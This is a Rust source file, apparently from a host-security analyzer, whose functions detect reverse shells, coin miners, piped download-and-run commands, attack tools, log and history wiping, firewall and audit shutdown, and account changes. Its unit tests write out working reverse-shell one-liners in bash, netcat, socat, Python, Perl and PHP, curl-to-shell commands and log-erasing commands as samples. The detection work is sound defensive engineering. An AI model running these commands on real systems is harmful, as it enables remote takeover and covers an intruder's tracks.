//! What each rule looks for in a command line. Each detector reads the line's commands (see
//! [`crate::command`]) and says what it found, as a key (what suppression counts as the same
//! thing) and a phrase for the alert's description.

use crate::command::{Command, Join, SHELLS, base_name};
use edgeguard_analyzer_sdk::known::{MINERS, POOLS};

/// What a detector found.
#[derive(Debug, PartialEq, Eq)]
pub struct Hit {
    /// The same key within the suppression time is the same finding.
    pub key: String,
    /// What was seen, as a phrase ("`iptables -F` flushes the filter table").
    pub what: String,
}

fn hit(key: impl Into<String>, what: impl Into<String>) -> Option<Hit> {
    Some(Hit {
        key: key.into(),
        what: what.into(),
    })
}

/// A command as written, for descriptions (its first arguments).
fn shown(c: &Command) -> String {
    let mut text = c.name.clone();
    for a in c.args.iter().take(6) {
        text.push(' ');
        text.push_str(a);
    }
    if c.args.len() > 6 {
        text.push_str(" …");
    }
    text
}

const INTERPRETERS: [&str; 10] = [
    "python", "python2", "python3", "perl", "ruby", "php", "lua", "node", "nodejs", "tclsh",
];

fn is_interpreter(name: &str) -> bool {
    INTERPRETERS.contains(&name)
        || (name.starts_with("python") || name.starts_with("php") || name.starts_with("lua"))
            && name[3..].chars().all(|c| c.is_ascii_digit() || c == '.')
}

fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name)
}

const NETCATS: [&str; 6] = [
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "pwncat",
];

/// A shell whose input and output are a network connection: `/dev/tcp` redirections, netcat
/// or socat running a program, a scripting language's socket handed to a shell, a FIFO looped
/// through netcat.
pub fn reverse_shell(line: &str, commands: &[Command]) -> Option<Hit> {
    for device in ["/dev/tcp/", "/dev/udp/"] {
        if let Some(at) = line.find(device) {
            let target: String = line[at..]
                .chars()
                .take_while(|c| !c.is_whitespace() && !matches!(c, ';' | '&' | '|' | '"' | '\''))
                .collect();
            return hit(target.clone(), format!("a shell redirected to {target}"));
        }
    }
    for c in commands {
        if NETCATS.contains(&c.name.as_str())
            && (c.has_any(&["-e", "-c", "--exec", "--sh-exec", "--lua-exec"])
                || c.args.iter().any(|a| {
                    a.starts_with("-e/") || a.starts_with("--exec=") || a.starts_with("--sh-exec=")
                }))
        {
            return hit(
                shown(c),
                format!("`{}` runs a program for a network peer", shown(c)),
            );
        }
        if c.name == "socat" {
            let lower: Vec<String> = c.args.iter().map(|a| a.to_ascii_lowercase()).collect();
            let runs = lower
                .iter()
                .any(|a| a.starts_with("exec:") || a.starts_with("system:"));
            let connects = lower.iter().any(|a| {
                ["tcp", "udp", "openssl", "ssl"]
                    .iter()
                    .any(|p| a.starts_with(p))
            });
            if runs && connects {
                return hit(
                    shown(c),
                    format!("`{}` gives a network peer a program", shown(c)),
                );
            }
        }
        // The script is cut into commands at its `;` and parentheses: read the whole line.
        if is_interpreter(&c.name) {
            let script = line.to_ascii_lowercase();
            let socket = script.contains("socket") || script.contains("fsockopen");
            let shell = [
                "pty.spawn",
                "subprocess",
                "/bin/sh",
                "/bin/bash",
                "exec(",
                "system(",
                "dup2",
                "proc_open",
                "popen",
            ]
            .iter()
            .any(|p| script.contains(p));
            if socket && shell {
                return hit(
                    format!("{} socket", c.name),
                    format!("{} hands a network socket to a shell", c.name),
                );
            }
        }
    }
    let fifo = commands
        .iter()
        .any(|c| c.name == "mkfifo" || c.name == "mknod" && c.has("p"));
    let network = commands.iter().find(|c| {
        NETCATS.contains(&c.name.as_str())
            || c.name == "telnet"
            || c.name == "openssl" && c.has("s_client")
    });
    let shell = commands
        .iter()
        .any(|c| is_shell(&c.name) && c.join != Join::Start);
    if fifo
        && shell
        && let Some(net) = network
    {
        return hit(
            shown(net),
            format!("a FIFO looped through a shell and `{}`", shown(net)),
        );
    }
    None
}

/// A coin miner: a miner's program name anywhere in the line (as a word or a path's last part),
/// a Stratum pool URL, a known pool, or XMRig's `--donate-level`.
pub fn coin_miner(line: &str, extra: &[String]) -> Option<Hit> {
    let lower = line.to_ascii_lowercase();
    for word in
        lower.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '"' | '\'' | '='))
    {
        let name = base_name(word);
        if MINERS.contains(&name.as_str()) || extra.iter().any(|e| e.eq_ignore_ascii_case(&name)) {
            return hit(name.clone(), format!("the miner `{name}`"));
        }
    }
    if let Some(at) = lower.find("stratum") {
        let rest = &lower[at + "stratum".len()..];
        let rest = rest.trim_start_matches(|c: char| c.is_ascii_digit());
        if rest.starts_with('+') {
            let url: String = lower[at..]
                .chars()
                .take_while(|c| !c.is_whitespace())
                .collect();
            return hit(url.clone(), format!("the mining pool URL `{url}`"));
        }
    }
    if let Some(pool) = POOLS.iter().find(|p| lower.contains(*p)) {
        return hit(*pool, format!("the mining pool {pool}"));
    }
    if lower.contains("--donate-level") {
        return hit("--donate-level", "XMRig's `--donate-level` option");
    }
    None
}

const DOWNLOADERS: [&str; 5] = ["curl", "wget", "fetch", "aria2c", "lwp-download"];

/// A download run at once: fetched and piped into a shell or an interpreter, fetched inside
/// `$(…)` or `<(…)` of a shell, or written to a file that the same line makes executable or runs.
pub fn download_run(line: &str, commands: &[Command]) -> Option<Hit> {
    for (i, c) in commands.iter().enumerate() {
        if !DOWNLOADERS.contains(&c.name.as_str()) {
            continue;
        }
        let url = c
            .args
            .iter()
            .find(|a| a.contains("://"))
            .cloned()
            .unwrap_or_else(|| "a URL".into());
        // Piped into a shell, as the next command of the pipeline.
        if let Some(next) = commands.get(i + 1)
            && next.join == Join::Pipe
            && (is_shell(&next.name) || is_interpreter(&next.name))
        {
            return hit(
                url.clone(),
                format!("{url} fetched with {} and piped into {}", c.name, next.name),
            );
        }
        // Substituted into a shell's command line.
        let substituted = ["$(", "<(", "`"]
            .iter()
            .any(|open| line.contains(&format!("{open}{}", c.name)))
            || ["$(", "<("]
                .iter()
                .any(|open| line.contains(&format!("{open} {}", c.name)));
        if substituted
            && commands.iter().any(|o| {
                is_shell(&o.name) || o.name == "eval" || o.name == "source" || o.name == "."
            })
        {
            return hit(
                url.clone(),
                format!("{url} fetched with {} and run by a shell", c.name),
            );
        }
        // Saved, then made executable or run by the same line.
        let saved = c
            .value(Some('O'), Some("--output-document"))
            .filter(|_| c.name == "wget")
            .or_else(|| {
                c.value(Some('o'), Some("--output"))
                    .filter(|_| c.name == "curl")
            });
        if let Some(file) = saved.filter(|f| *f != "-") {
            let file_name = base_name(file);
            let runs = commands[i + 1..].iter().any(|later| {
                (later.name == "chmod"
                    && later.args.iter().any(|a| a.contains('x'))
                    && later.args.iter().any(|a| base_name(a) == file_name))
                    || base_name(&later.name) == file_name && !later.name.is_empty()
                    || (is_shell(&later.name) || is_interpreter(&later.name))
                        && later.args.iter().any(|a| base_name(a) == file_name)
            });
            if runs {
                return hit(url.clone(), format!("{url} saved as {file} and run"));
            }
        }
    }
    None
}

/// Tools made for attacking (password crackers, scanners, exploitation frameworks, privilege
/// escalation scripts). Admin tools with wide honest use (nmap, tcpdump) are not on it; add
/// them with `names`.
pub const ATTACK_TOOLS: [&str; 36] = [
    "hydra",
    "medusa",
    "ncrack",
    "patator",
    "john",
    "hashcat",
    "sqlmap",
    "nikto",
    "masscan",
    "zmap",
    "msfconsole",
    "msfvenom",
    "msfrpcd",
    "msfd",
    "linpeas",
    "linenum",
    "linux-exploit-suggester",
    "pspy",
    "pspy32",
    "pspy64",
    "lazagne",
    "mimipenguin",
    "chisel",
    "ligolo",
    "ligolo-ng",
    "crackmapexec",
    "netexec",
    "nxc",
    "responder",
    "gobuster",
    "dirb",
    "ffuf",
    "wfuzz",
    "enum4linux",
    "evil-winrm",
    "beef-xss",
];

/// A known attack tool run: a command whose program (without `.sh`, `.py`, `.pl`) is on the
/// list, or one of `extra`.
pub fn attack_tool(commands: &[Command], extra: &[String]) -> Option<Hit> {
    /// A program's or a script's name without its extension.
    fn tool_name(word: &str) -> String {
        let name = base_name(word);
        [".sh", ".py", ".pl"]
            .iter()
            .find_map(|ext| name.strip_suffix(ext))
            .map_or_else(|| name.clone(), str::to_owned)
    }
    commands.iter().find_map(|c| {
        // `bash linpeas.sh`, `python3 lazagne.py`: the script is the tool.
        let script = is_shell(&c.name) || is_interpreter(&c.name);
        let name = match c.args.iter().find(|a| !a.starts_with('-')) {
            Some(file) if script => tool_name(file),
            _ => tool_name(&c.name),
        };
        (ATTACK_TOOLS.contains(&name.as_str())
            || extra.iter().any(|e| e.eq_ignore_ascii_case(&name)))
        .then(|| Hit {
            what: format!("the attack tool `{name}`"),
            key: name,
        })
    })
}

const REMOVERS: [&str; 6] = ["rm", "shred", "unlink", "truncate", "srm", "wipe"];

/// Whether the line writes over `path`-like targets with a lone `>` (not `>>`).
fn truncates(line: &str, target: impl Fn(&str) -> bool) -> Option<String> {
    let bytes = line.as_bytes();
    for (at, _) in line.match_indices('>') {
        let doubled = bytes.get(at + 1) == Some(&b'>') || at > 0 && bytes[at - 1] == b'>';
        let fd_dup = bytes.get(at + 1) == Some(&b'&');
        if doubled || fd_dup {
            continue;
        }
        let file: String = line[at + 1..]
            .trim_start()
            .chars()
            .take_while(|c| !c.is_whitespace() && !matches!(c, ';' | '&' | '|' | '"' | '\''))
            .collect();
        if target(&file) {
            return Some(file);
        }
    }
    None
}

/// System logs removed or emptied: `rm`, `shred`, `truncate` … of a path below `/var/log`,
/// `> /var/log/…`, `ln -sf /dev/null /var/log/…`, or the journal vacuumed.
pub fn logs_removed(line: &str, commands: &[Command]) -> Option<Hit> {
    let is_log = |p: &str| p == "/var/log" || p.starts_with("/var/log/");
    for c in commands {
        if REMOVERS.contains(&c.name.as_str())
            && let Some(path) = c.args.iter().find(|a| is_log(a))
        {
            return hit(path.clone(), format!("`{} {path}`", c.name));
        }
        if c.name == "ln"
            && c.has_any(&["/dev/null"])
            && let Some(path) = c.args.iter().find(|a| is_log(a))
        {
            return hit(path.clone(), format!("{path} linked to /dev/null"));
        }
        if c.name == "journalctl"
            && let Some(v) = c.args.iter().find(|a| a.starts_with("--vacuum-"))
        {
            return hit(
                "journal",
                format!("the journal vacuumed (`journalctl {v}`)"),
            );
        }
    }
    truncates(line, is_log).map(|file| Hit {
        key: file.clone(),
        what: format!("{file} emptied"),
    })
}

fn is_history(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    name.starts_with('.') && name.ends_with("_history")
}

/// A shell's history cleared: `history -c`, a history file removed, emptied or linked to
/// `/dev/null`, or history turned off (`unset HISTFILE`, `HISTFILE=/dev/null`, `HISTSIZE=0`,
/// `set +o history`).
pub fn history_cleared(line: &str, commands: &[Command]) -> Option<Hit> {
    for c in commands {
        if c.name == "history" && c.has_any(&["-c", "-cw", "-wc"]) {
            return hit("history -c", "`history -c`");
        }
        if (REMOVERS.contains(&c.name.as_str()) || c.name == "ln" && c.has("/dev/null"))
            && let Some(path) = c.args.iter().find(|a| is_history(a))
        {
            return hit(base_name(path), format!("`{} {path}`", c.name));
        }
        if c.name == "unset" && c.has_any(&["HISTFILE", "HISTSIZE", "HISTFILESIZE"]) {
            return hit("unset HISTFILE", format!("`{}`", shown(c)));
        }
        if c.name == "set" && c.has("+o") && c.has("history") {
            return hit("set +o history", "`set +o history`");
        }
        let off = |a: &String| {
            matches!(
                a.as_str(),
                "HISTFILE=/dev/null" | "HISTSIZE=0" | "HISTFILESIZE=0" | "HISTFILE="
            )
        };
        if let Some(a) = c.assignments.iter().chain(&c.args).find(|a| off(a))
            && (c.name == "export" || c.assignments.contains(a))
        {
            return hit(a.clone(), format!("`{a}`"));
        }
    }
    truncates(line, is_history).map(|file| Hit {
        key: base_name(&file),
        what: format!("{file} emptied"),
    })
}

const IPTABLES: [&str; 8] = [
    "iptables",
    "ip6tables",
    "iptables-legacy",
    "ip6tables-legacy",
    "iptables-nft",
    "ip6tables-nft",
    "xtables-legacy-multi",
    "xtables-nft-multi",
];
const BUILTIN_CHAINS: [&str; 3] = ["INPUT", "OUTPUT", "FORWARD"];
const FIREWALL_SERVICES: [&str; 6] = [
    "ufw",
    "firewalld",
    "nftables",
    "iptables",
    "ip6tables",
    "netfilter-persistent",
];

fn service_stopped(c: &Command, services: &[&str]) -> Option<String> {
    let unit = |a: &String| {
        let name = a.strip_suffix(".service").unwrap_or(a);
        services.contains(&name).then(|| name.to_owned())
    };
    match c.name.as_str() {
        "systemctl" if c.has_any(&["stop", "disable", "mask", "kill"]) => {
            c.args.iter().find_map(unit)
        }
        "service" if c.has("stop") => c.args.iter().find_map(unit),
        "rc-service" | "sv" if c.has("stop") => c.args.iter().find_map(unit),
        "pkill" | "killall" => c.args.iter().find_map(unit),
        _ => None,
    }
}

/// The firewall turned off: the filter table flushed whole or a built-in chain flushed, a
/// built-in chain's policy set to ACCEPT, nftables' rule set flushed or a table deleted, ufw
/// disabled or reset, firewalld opened to everything, or the firewall's service stopped.
pub fn firewall_disabled(commands: &[Command]) -> Option<Hit> {
    for c in commands {
        if IPTABLES.contains(&c.name.as_str()) {
            let table = c.value(Some('t'), Some("--table")).unwrap_or("filter");
            if table != "filter" {
                continue;
            }
            if let Some(at) = c.args.iter().position(|a| a == "-F" || a == "--flush") {
                let chain = c.args.get(at + 1).filter(|a| !a.starts_with('-'));
                if chain.is_none_or(|ch| BUILTIN_CHAINS.contains(&ch.as_str())) {
                    let what =
                        chain.map_or("every chain".to_owned(), |ch| format!("the {ch} chain"));
                    let key = match chain {
                        Some(ch) => format!("{} -F {ch}", c.name),
                        None => format!("{} -F", c.name),
                    };
                    return hit(key, format!("`{}` flushes {what}", shown(c)));
                }
            }
            if let Some(at) = c.args.iter().position(|a| a == "-P" || a == "--policy")
                && let (Some(chain), Some(policy)) = (c.args.get(at + 1), c.args.get(at + 2))
                && BUILTIN_CHAINS.contains(&chain.as_str())
                && policy == "ACCEPT"
            {
                return hit(
                    format!("{} -P {chain}", c.name),
                    format!("`{}` accepts everything on {chain}", shown(c)),
                );
            }
        }
        if c.name == "nft" {
            let words: Vec<&str> = c
                .args
                .iter()
                .filter(|a| !a.starts_with('-'))
                .map(String::as_str)
                .collect();
            match words.as_slice() {
                ["flush", "ruleset", ..] | ["delete", "ruleset", ..] => {
                    return hit("nft ruleset", format!("`{}` removes every rule", shown(c)));
                }
                ["flush" | "delete", "table", rest @ ..] => {
                    let table = rest.join(" ");
                    return hit(
                        format!("nft table {table}"),
                        format!("`{}` removes the table's rules", shown(c)),
                    );
                }
                _ => {}
            }
        }
        if c.name == "ufw" && c.has_any(&["disable", "reset"]) {
            return hit("ufw", format!("`{}`", shown(c)));
        }
        if c.name == "firewall-cmd" && c.value(None, Some("--set-default-zone")) == Some("trusted")
        {
            return hit(
                "firewalld trusted",
                "firewalld's default zone set to trusted",
            );
        }
        if let Some(service) = service_stopped(c, &FIREWALL_SERVICES) {
            return hit(
                format!("service {service}"),
                format!("`{}` stops the firewall", shown(c)),
            );
        }
    }
    None
}

/// Auditing turned off: `auditctl -e 0`, its rules deleted (`auditctl -D`), or auditd stopped.
pub fn audit_disabled(commands: &[Command]) -> Option<Hit> {
    for c in commands {
        if c.name == "auditctl" {
            if c.value(Some('e'), None) == Some("0") {
                return hit("auditctl -e 0", "`auditctl -e 0` turns auditing off");
            }
            if c.has("-D") {
                return hit("auditctl -D", "`auditctl -D` deletes every audit rule");
            }
        }
        if let Some(service) = service_stopped(c, &["auditd"]) {
            return hit(
                format!("service {service}"),
                format!("`{}` stops auditd", shown(c)),
            );
        }
    }
    None
}

/// A change to the local accounts, as the account tools make it.
#[derive(Debug, PartialEq, Eq)]
pub enum Account {
    /// A user added (with the groups given, if any).
    Added {
        user: String,
        groups: Option<String>,
    },
    /// A user deleted.
    Deleted { user: String },
    /// A user added to groups (or its groups set, `replaced`).
    Joined {
        user: String,
        groups: String,
        replaced: bool,
    },
    /// A user removed from groups.
    Left { user: String, groups: String },
}

/// Options of the account tools that take a value (so their values are not taken for names).
const USERADD_VALUED: [&str; 30] = [
    "-b",
    "--base-dir",
    "-c",
    "--comment",
    "-d",
    "--home-dir",
    "-e",
    "--expiredate",
    "-f",
    "--inactive",
    "-g",
    "--gid",
    "-G",
    "--groups",
    "-k",
    "--skel",
    "-K",
    "--key",
    "-p",
    "--password",
    "-R",
    "--root",
    "-P",
    "--prefix",
    "-s",
    "--shell",
    "-u",
    "--uid",
    "-Z",
    "--selinux-user",
];
const ADDUSER_VALUED: [&str; 16] = [
    "--home",
    "--shell",
    "--uid",
    "--gid",
    "--ingroup",
    "--gecos",
    "--comment",
    "--firstuid",
    "--lastuid",
    "--conf",
    "--firstgid",
    "--lastgid",
    "-h",
    "-g",
    "-s",
    "-u",
];

/// What the line's account tools change: useradd, adduser, userdel, deluser, usermod, gpasswd,
/// groupmems, and BusyBox's addgroup and delgroup with a user.
pub fn account_changes(commands: &[Command]) -> Vec<Account> {
    let mut out = Vec::new();
    for c in commands {
        match c.name.as_str() {
            "useradd" => {
                if let Some(user) = c.operands(&USERADD_VALUED).last() {
                    out.push(Account::Added {
                        user: (*user).to_owned(),
                        groups: c.value(Some('G'), Some("--groups")).map(str::to_owned),
                    });
                }
            }
            "adduser" | "addgroup" => {
                let mut valued = ADDUSER_VALUED.to_vec();
                valued.push("-G");
                let operands = c.operands(&valued);
                match (c.name.as_str(), operands.as_slice()) {
                    (_, [user, group]) => out.push(Account::Joined {
                        user: (*user).to_owned(),
                        groups: (*group).to_owned(),
                        replaced: false,
                    }),
                    ("adduser", [user]) if !c.has("--group") => out.push(Account::Added {
                        user: (*user).to_owned(),
                        groups: c.value(Some('G'), None).map(str::to_owned),
                    }),
                    _ => {}
                }
            }
            "userdel" => {
                if let Some(user) = c.operands(&["-R", "--root", "-P", "--prefix"]).last() {
                    out.push(Account::Deleted {
                        user: (*user).to_owned(),
                    });
                }
            }
            "deluser" | "delgroup" => match (
                c.name.as_str(),
                c.operands(&["--conf", "--backup-to"]).as_slice(),
            ) {
                (_, [user, group]) => out.push(Account::Left {
                    user: (*user).to_owned(),
                    groups: (*group).to_owned(),
                }),
                ("deluser", [user]) if !c.has("--group") => out.push(Account::Deleted {
                    user: (*user).to_owned(),
                }),
                _ => {}
            },
            "usermod" => {
                let Some(groups) = c.value(Some('G'), Some("--groups")) else {
                    continue;
                };
                let valued = [
                    "-c",
                    "--comment",
                    "-d",
                    "--home",
                    "-e",
                    "--expiredate",
                    "-f",
                    "--inactive",
                    "-g",
                    "--gid",
                    "-G",
                    "--groups",
                    "-l",
                    "--login",
                    "-p",
                    "--password",
                    "-R",
                    "--root",
                    "-P",
                    "--prefix",
                    "-s",
                    "--shell",
                    "-u",
                    "--uid",
                    "-Z",
                    "--selinux-user",
                    "-v",
                    "--add-subuids",
                    "-V",
                    "--del-subuids",
                ];
                let Some(user) = c.operands(&valued).last().map(|u| (*u).to_owned()) else {
                    continue;
                };
                let groups = groups.to_owned();
                if c.short('r') || c.has("--remove") {
                    out.push(Account::Left { user, groups });
                } else {
                    let replaced = !(c.short('a') || c.has("--append"));
                    out.push(Account::Joined {
                        user,
                        groups,
                        replaced,
                    });
                }
            }
            "gpasswd" => {
                let group = c
                    .operands(&[
                        "-a",
                        "--add",
                        "-d",
                        "--delete",
                        "-M",
                        "--members",
                        "-A",
                        "--administrators",
                        "-Q",
                        "--root",
                    ])
                    .last()
                    .map(|g| (*g).to_owned());
                let Some(group) = group else { continue };
                if let Some(user) = c.value(Some('a'), Some("--add")) {
                    out.push(Account::Joined {
                        user: user.to_owned(),
                        groups: group.clone(),
                        replaced: false,
                    });
                }
                if let Some(user) = c.value(Some('d'), Some("--delete")) {
                    out.push(Account::Left {
                        user: user.to_owned(),
                        groups: group.clone(),
                    });
                }
                if let Some(users) = c.value(Some('M'), Some("--members")) {
                    for user in users.split(',').filter(|u| !u.is_empty()) {
                        out.push(Account::Joined {
                            user: user.to_owned(),
                            groups: group.clone(),
                            replaced: true,
                        });
                    }
                }
            }
            "groupmems" => {
                let Some(group) = c.value(Some('g'), Some("--group")) else {
                    continue;
                };
                if let Some(user) = c.value(Some('a'), Some("--add")) {
                    out.push(Account::Joined {
                        user: user.to_owned(),
                        groups: group.to_owned(),
                        replaced: false,
                    });
                }
                if let Some(user) = c.value(Some('d'), Some("--delete")) {
                    out.push(Account::Left {
                        user: user.to_owned(),
                        groups: group.to_owned(),
                    });
                }
            }
            _ => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::command::commands;

    fn reverse(line: &str) -> bool {
        reverse_shell(line, &commands(line)).is_some()
    }

    #[test]
    fn reverse_shells_of_every_common_kind_and_not_their_look_alikes() {
        for line in [
            "bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
            "sh -i 5<> /dev/udp/10.0.0.1/53",
            "nc -e /bin/sh 10.0.0.1 4444",
            "ncat 10.0.0.1 4444 --sh-exec bash",
            "/usr/bin/nc.traditional 10.0.0.1 9 -e/bin/bash",
            "socat exec:bash,pty,stderr tcp:10.0.0.1:4444",
            "python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
            "perl -e use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");",
            "php -r $sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
            "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
        ] {
            assert!(reverse(line), "{line}");
        }
        for line in [
            "bash -i",
            "nc -l 8888",
            "nc -zv 10.0.0.1 22",
            "socat TCP-LISTEN:80,fork TCP:10.0.0.2:80",
            "python3 -m http.server",
            "python3 -c import socket; print(socket.gethostname())",
            "mkfifo /tmp/pipe",
            "grep -r /dev/tcpdump notes",
        ] {
            assert!(!reverse(line), "{line}");
        }
    }

    #[test]
    fn coin_miners_by_name_pool_and_option() {
        for (line, key) in [
            ("sh -c echo cpuminer-multi", "cpuminer-multi"),
            ("/tmp/.x/xmrig -o pool.example:3333", "xmrig"),
            (
                "./kworker -o stratum+tcp://10.1.1.1:3333 -u w",
                "stratum+tcp://10.1.1.1:3333",
            ),
            (
                "./a --url=stratum2+ssl://p.example:443",
                "stratum2+ssl://p.example:443",
            ),
            ("./b -o gulf.moneroocean.stream:10128", "moneroocean.stream"),
            ("./c --donate-level 1", "--donate-level"),
        ] {
            assert_eq!(
                coin_miner(line, &[]).map(|h| h.key),
                Some(key.to_owned()),
                "{line}"
            );
        }
        for line in [
            "grep -r miner /var/log",
            "cargo build",
            "stratum --help",
            "apt install xmrig-docs",
        ] {
            assert_eq!(coin_miner(line, &[]), None, "{line}");
        }
        assert!(coin_miner("/opt/hasher --fast", &["hasher".into()]).is_some());
    }

    #[test]
    fn downloads_run_at_once() {
        for line in [
            "sh -c curl -fsSL https://x.example/i.sh | sh",
            "bash -c wget -qO- http://x.example/a|python3",
            "bash -c $(curl -s https://x.example/b)",
            "bash -c bash <(wget -qO- https://x.example/c)",
            "sh -c wget -O /tmp/k http://x.example/k; chmod +x /tmp/k; /tmp/k",
            "sh -c curl -o /tmp/p.sh https://x.example/p.sh && bash /tmp/p.sh",
        ] {
            assert!(download_run(line, &commands(line)).is_some(), "{line}");
        }
        for line in [
            "curl -fsSL https://x.example/i.sh -o i.sh",
            "sh -c curl https://x.example | grep version",
            "wget https://x.example/f.tar.gz",
            "sh -c curl -o /tmp/a https://x && cat /tmp/a",
        ] {
            assert!(download_run(line, &commands(line)).is_none(), "{line}");
        }
    }

    #[test]
    fn attack_tools_as_programs_and_as_scripts() {
        for (line, key) in [
            ("hydra -l root -P pw.txt ssh://10.0.0.1", "hydra"),
            ("/tmp/linpeas.sh", "linpeas"),
            ("bash ./linpeas.sh -a", "linpeas"),
            ("python3 /opt/lazagne.py all", "lazagne"),
            ("sudo masscan 10.0.0.0/8 -p22", "masscan"),
        ] {
            assert_eq!(
                attack_tool(&commands(line), &[]).map(|h| h.key),
                Some(key.to_owned()),
                "{line}"
            );
        }
        assert!(attack_tool(&commands("nmap -sV 10.0.0.1"), &[]).is_none());
        assert!(attack_tool(&commands("nmap -sV 10.0.0.1"), &["nmap".into()]).is_some());
        assert!(attack_tool(&commands("john --help"), &[]).is_some());
        assert!(attack_tool(&commands("bash -x build.sh"), &[]).is_none());
    }

    #[test]
    fn logs_and_history_cleared() {
        for line in [
            "rm -rf /var/log/auth.log",
            "shred -u /var/log/syslog",
            "sh -c cat /dev/null > /var/log/wtmp",
            "sh -c echo>/var/log/btmp",
            "ln -sf /dev/null /var/log/lastlog",
            "journalctl --vacuum-time=1s",
        ] {
            assert!(logs_removed(line, &commands(line)).is_some(), "{line}");
        }
        for line in [
            "ls /var/log",
            "sh -c echo x >> /var/log/app.log",
            "tail -f /var/log/syslog",
            "rm /tmp/x.log",
            "sh -c ls 2>&1 /var/log",
        ] {
            assert!(logs_removed(line, &commands(line)).is_none(), "{line}");
        }
        for line in [
            "bash -c history -c",
            "rm -f /root/.bash_history",
            "sh -c > ~/.zsh_history",
            "ln -sf /dev/null /home/pi/.bash_history",
            "bash -c unset HISTFILE",
            "bash -c export HISTFILESIZE=0",
            "env HISTFILE=/dev/null bash",
            "bash -c set +o history",
        ] {
            assert!(history_cleared(line, &commands(line)).is_some(), "{line}");
        }
        for line in [
            "bash -c history",
            "cat ~/.bash_history",
            "sh -c echo HISTSIZE=0",
            "grep x .bash_history",
        ] {
            assert!(history_cleared(line, &commands(line)).is_none(), "{line}");
        }
    }

    #[test]
    fn firewalls_and_audit_turned_off_but_not_docker_maintaining_its_chains() {
        for line in [
            "iptables -F",
            "/usr/sbin/ip6tables --flush INPUT",
            "iptables -t filter -F",
            "iptables -P INPUT ACCEPT",
            "nft flush ruleset",
            "nft delete table inet filter",
            "ufw --force disable",
            "systemctl stop firewalld.service",
            "service ufw stop",
            "sh -c iptables -F; iptables -X",
        ] {
            assert!(firewall_disabled(&commands(line)).is_some(), "{line}");
        }
        for line in [
            "iptables --wait -t nat -F DOCKER",
            "iptables -F DOCKER-USER",
            "iptables -t nat -F",
            "iptables -P FORWARD DROP",
            "iptables -L -n",
            "nft list ruleset",
            "ufw status",
            "systemctl status firewalld",
        ] {
            assert!(firewall_disabled(&commands(line)).is_none(), "{line}");
        }
        for line in [
            "auditctl -e 0",
            "auditctl -D",
            "systemctl mask auditd",
            "pkill auditd",
        ] {
            assert!(audit_disabled(&commands(line)).is_some(), "{line}");
        }
        for line in ["auditctl -e 1", "auditctl -l", "systemctl restart auditd"] {
            assert!(audit_disabled(&commands(line)).is_none(), "{line}");
        }
    }

    #[test]
    fn account_tools_read_as_changes() {
        let changes = |line: &str| account_changes(&commands(line));
        assert_eq!(
            changes("useradd --root /tmp/r -m -G sudo,adm -s /bin/bash mallory"),
            [Account::Added {
                user: "mallory".into(),
                groups: Some("sudo,adm".into())
            }]
        );
        assert_eq!(
            changes("adduser --disabled-password --gecos x eve"),
            [Account::Added {
                user: "eve".into(),
                groups: None
            }]
        );
        assert_eq!(
            changes("adduser eve sudo"),
            [Account::Joined {
                user: "eve".into(),
                groups: "sudo".into(),
                replaced: false
            }]
        );
        assert_eq!(
            changes("userdel -r -R /tmp/r bob"),
            [Account::Deleted { user: "bob".into() }]
        );
        assert_eq!(
            changes("deluser bob"),
            [Account::Deleted { user: "bob".into() }]
        );
        assert_eq!(
            changes("deluser bob docker"),
            [Account::Left {
                user: "bob".into(),
                groups: "docker".into()
            }]
        );
        assert_eq!(
            changes("usermod -aG docker bob"),
            [Account::Joined {
                user: "bob".into(),
                groups: "docker".into(),
                replaced: false
            }]
        );
        assert_eq!(
            changes("usermod -G users bob"),
            [Account::Joined {
                user: "bob".into(),
                groups: "users".into(),
                replaced: true
            }]
        );
        assert_eq!(
            changes("usermod -r -G sudo bob"),
            [Account::Left {
                user: "bob".into(),
                groups: "sudo".into()
            }]
        );
        assert_eq!(
            changes("gpasswd -Q /tmp/r -a bob wheel"),
            [Account::Joined {
                user: "bob".into(),
                groups: "wheel".into(),
                replaced: false
            }]
        );
        assert_eq!(
            changes("gpasswd --delete bob wheel"),
            [Account::Left {
                user: "bob".into(),
                groups: "wheel".into()
            }]
        );
        assert_eq!(
            changes("groupmems -g video -a kiosk"),
            [Account::Joined {
                user: "kiosk".into(),
                groups: "video".into(),
                replaced: false
            }]
        );
        assert!(changes("usermod -s /bin/zsh bob").is_empty());
        assert!(changes("addgroup staff").is_empty());
        assert!(changes("useradd --help").is_empty());
        assert!(changes("id bob").is_empty());
    }
}
